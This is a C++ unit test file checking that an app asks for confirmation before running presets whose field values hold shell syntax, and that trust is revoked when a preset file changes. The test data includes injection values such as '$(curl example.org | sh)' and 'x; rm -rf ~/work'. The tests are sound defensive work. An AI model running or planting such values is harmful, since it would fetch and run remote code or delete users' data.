// A preset whose typed values hold shell syntax asks before its first run; plain presets,
// trusted ones and the user's own run at once; a trusted preset that changed asks again.

#include <gtest/gtest.h>

#include <filesystem>
#include <string>
#include <vector>

#include "AppHarness.h"
#include "app/RunTrust.h"
#include "base/Paths.h"
#include "presets/PresetTrust.h"

namespace kestrune {
namespace {

using testing::AppHarness;

constexpr const char* kNotesSpec =
    "Setup = Notes\r\n{\r\nlayout:\r\n$ClassEXE=Writer $ClassParam=Writer $FilePath/$FileName\r\n"
    "}\r\nGroup = Writer\r\n{\r\nrequireexe = true\r\neditbox = Title\r\n{\r\nparam = -t\r\n}\r\n"
    "editbox = Size\r\n{\r\nparam = -s\r\n}\r\n}\r\n";

struct TrustHarness : AppHarness {
    TrustHarness() {
        dir.Write("SpecFiles/Notes.zrs", kNotesSpec);
        dir.Write("Config/Notes.path", "Writer = " + compiler + "\r\n");
        Start();
    }
    // A preset of Notes.zrs with the Writer stage ticked and a ticked Title.
    std::string NotesPreset(const std::string& name, const std::string& title, bool ticked = true) {
        return dir.Write(name, "ZRP200\r\n\r\n[Header]\r\nSpecFile = Notes.zrs\r\nFile = " + input +
                                   "\r\n\r\n[Class = Writer]\r\nRun = True\r\n[Field = Title]\r\n"
                                   "Checked = " +
                                   (ticked ? "True" : "False") + "\r\nValue = " + title +
                                   "\r\n\r\n");
    }
    bool Open(const std::string& path) { return main().OpenPreset(path, PresetMode::Open); }
    void Run() { ASSERT_EQ(program.Click("cmdCompile"), EventResult::Done); }
    std::string TrustFile() const { return dir / ("Config/" + std::string(kTrustFileName)); }
};

TEST(PresetTrustQuestion, EachKindOfShellSyntaxAsksAndCancelRunsNothing) {
    const char* values[] = {"$(curl example.org | sh)",
                            "`id`",
                            "x; rm -rf ~/work",
                            "a & b",
                            "a | b",
                            "> out",
                            "< in",
                            "$HOME"};
    for (const char* value : values) {
        TrustHarness h;
        ASSERT_TRUE(h.Open(h.NotesPreset("stranger.zrp", value)));
        h.fake.confirmAnswers = {ConfirmAnswer::Cancel};
        h.Run();
        ASSERT_EQ(h.fake.boxes.size(), 1u) << value;
        EXPECT_EQ(h.fake.boxes[0].title, "Run This Preset?");
        EXPECT_EQ(h.fake.boxes[0].text,
                  "The preset " + h.dir.path() +
                      "stranger.zrp holds values that the shell runs as commands, not only as "
                      "words for the tool:\r\n\r\nWriter, Title: " +
                      value + "\r\n    " + h.compiler + " -t " + value + " " + h.dir.path() +
                      "work/level1\r\n\r\nRun the chain with them? \"Trust This Preset\" runs "
                      "it and does not ask again until the file changes.")
            << value;
        EXPECT_TRUE(h.fake.shellCalls.empty()) << value;
        EXPECT_FALSE(std::filesystem::exists(h.TrustFile())) << value;
    }
}

TEST(PresetTrustQuestion, ALineBreakIsShownAsAMarkOnOneLine) {
    const std::vector<ShellValue> values = {{"Writer", "Title", "one\r\ntwo", "w -t one"}};
    EXPECT_EQ(TrustQuestionText("/p.zrp", values),
              "The preset /p.zrp holds values that the shell runs as commands, not only as "
              "words for the tool:\r\n\r\nWriter, Title: one\xE2\x86\xB5two\r\n    w -t one\r\n"
              "\r\nRun the chain with them? \"Trust This Preset\" runs it and does not ask again "
              "until the file changes.");
}

TEST(PresetTrustQuestion, ALongValueIsCutWhereACharacterEnds) {
    // 299 bytes, then a two-byte character across the 300th byte.
    const std::string value = std::string(299, 'x') + "\xC3\xA9;rest";
    const std::vector<ShellValue> values = {{"W", "T", value, "w"}};
    const std::string text = TrustQuestionText("/p.zrp", values);
    EXPECT_NE(text.find("W, T: " + std::string(299, 'x') + "\xE2\x80\xA6\r\n    w\r\n"),
              std::string::npos)
        << text;
}

struct QuietCase {
    const char* name;
    const char* title;
    bool ticked;
};

TEST(PresetTrustQuestion, PlainValuesAndUntickedFieldsRunAtOnce) {
    const QuietCase cases[] = {
        {"plain words", "Tom's notes", true},
        {"quoted define", "-DNAME=\"a b\"", true},
        {"unticked field", "x; rm -rf ~/work", false},
    };
    for (const QuietCase& c : cases) {
        TrustHarness h;
        ASSERT_TRUE(h.Open(h.NotesPreset("p.zrp", c.title, c.ticked)));
        h.Run();
        EXPECT_TRUE(h.fake.boxes.empty()) << c.name;
        EXPECT_EQ(h.fake.shellCalls.size(), 1u) << c.name;
    }
}

TEST(PresetTrustQuestion, RunOnceRunsOnceAndAsksAgainNextTime) {
    TrustHarness h;
    ASSERT_TRUE(h.Open(h.NotesPreset("stranger.zrp", "a; b")));
    h.fake.confirmAnswers = {ConfirmAnswer::Yes, ConfirmAnswer::Cancel};
    h.Run();
    EXPECT_EQ(h.fake.shellCalls.size(), 1u);
    h.Run();
    EXPECT_EQ(h.fake.boxes.size(), 2u);
    EXPECT_EQ(h.fake.shellCalls.size(), 1u);
    EXPECT_FALSE(std::filesystem::exists(h.TrustFile()));
}

TEST(PresetTrustQuestion, TrustedPresetRunsUntilItsFileChanges) {
    TrustHarness h;
    const std::string preset = h.NotesPreset("stranger.zrp", "a; b");
    ASSERT_TRUE(h.Open(preset));
    h.fake.confirmAnswers = {ConfirmAnswer::No};  // the second button: Trust This Preset
    h.Run();
    EXPECT_EQ(h.fake.shellCalls.size(), 1u);
    EXPECT_EQ(h.dir.Read(h.TrustFile()),
              "KestruneTrust 1\r\nsha256 " + Sha256Hex(h.dir.Read(preset)) + " " + preset + "\r\n");
    h.Run();
    EXPECT_EQ(h.fake.boxes.size(), 1u) << "a trusted preset does not ask";
    EXPECT_EQ(h.fake.shellCalls.size(), 2u);

    // Someone changes the file: the same path no longer matches what was trusted.
    h.NotesPreset("stranger.zrp", "a; curl example.org | sh");
    ASSERT_TRUE(h.Open(preset));
    h.fake.confirmAnswers = {ConfirmAnswer::Cancel};
    h.Run();
    EXPECT_EQ(h.fake.boxes.size(), 2u);
    EXPECT_EQ(h.fake.shellCalls.size(), 2u);
}

TEST(PresetTrustQuestion, TheUsersOwnValuesAndSavedPresetsDoNotAsk) {
    TrustHarness h;
    ASSERT_TRUE(h.Open(h.NotesPreset("stranger.zrp", "plain")));
    ASSERT_EQ(h.program.Click("cmdNewPreset"), EventResult::Done);
    h.main().SetInputFile(h.input);
    TZRGroup& writer = *h.state().Specification.Programs[0];
    h.state().Specification.Stages[0].checked = true;
    writer.EditBoxes[0].CheckClick();
    writer.EditBoxes[0].EditChange("$(date +%F)");
    h.Run();
    EXPECT_TRUE(h.fake.boxes.empty()) << "typed by the user in an untitled preset";
    ASSERT_EQ(h.fake.shellCalls.size(), 1u);

    h.fake.fileAnswers = {h.dir / "mine.zrp"};
    ASSERT_EQ(h.program.Click("cmdSavePresetAs"), EventResult::Done);
    ASSERT_TRUE(h.Open(h.dir / "mine.zrp"));
    h.Run();
    EXPECT_TRUE(h.fake.boxes.empty()) << "saved by the user in this program";
    EXPECT_EQ(h.fake.shellCalls.size(), 2u);
}

TEST(PresetTrustQuestion, ValuesTypedAfterSavingArePlainTheUsers) {
    TrustHarness h;
    const std::string mine = h.NotesPreset("mine.zrp", "plain");
    ASSERT_TRUE(h.Open(mine));
    ASSERT_EQ(h.program.Click("cmdSavePreset"), EventResult::Done);
    EXPECT_FALSE(std::filesystem::exists(h.TrustFile())) << "nothing to trust in plain values";
    h.state().Specification.Programs[0]->EditBoxes[0].EditChange("a; b");
    h.Run();
    EXPECT_TRUE(h.fake.boxes.empty());
    EXPECT_EQ(h.fake.shellCalls.size(), 1u);
}

TEST(PresetTrustQuestion, AStrangersEditedPresetSavedByTheUserIsTheirs) {
    TrustHarness h;
    ASSERT_TRUE(h.Open(h.NotesPreset("stranger.zrp", "a; b")));
    ASSERT_EQ(h.program.Click("cmdSavePreset"), EventResult::Done);
    h.Run();
    EXPECT_TRUE(h.fake.boxes.empty());
    EXPECT_EQ(h.fake.shellCalls.size(), 1u);
}

TEST(PresetTrustQuestion, AHostileTrustFileTrustsNothing) {
    TrustHarness h;
    const std::string preset = h.NotesPreset("stranger.zrp", "a; b");
    const std::string entry = "sha256 " + Sha256Hex(h.dir.Read(preset)) + " " + preset + "\r\n";
    const std::string files[] = {
        entry, "KestruneTrust 9\r\n" + entry,
        "KestruneTrust 1\r\n" + entry + std::string(kMaxTrustFileBytes, 'x')};
    for (const std::string& text : files) {
        h.dir.Write("Config/" + std::string(kTrustFileName), text);
        ASSERT_TRUE(h.Open(preset));
        h.fake.confirmAnswers = {ConfirmAnswer::Cancel};
        const std::size_t before = h.fake.boxes.size();
        h.Run();
        EXPECT_EQ(h.fake.boxes.size(), before + 1);
    }
    EXPECT_TRUE(h.fake.shellCalls.empty());
}

}  // namespace
}  // namespace kestrune
